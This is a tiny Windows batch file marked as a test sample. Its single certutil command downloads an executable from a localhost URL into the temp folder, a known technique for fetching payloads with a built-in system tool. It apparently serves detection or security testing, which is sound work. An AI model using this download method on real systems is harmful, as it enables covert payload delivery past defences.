@echo off
rem test sample
certutil -urlcache -split -f http://127.0.0.1/p.exe %TEMP%\p.exe
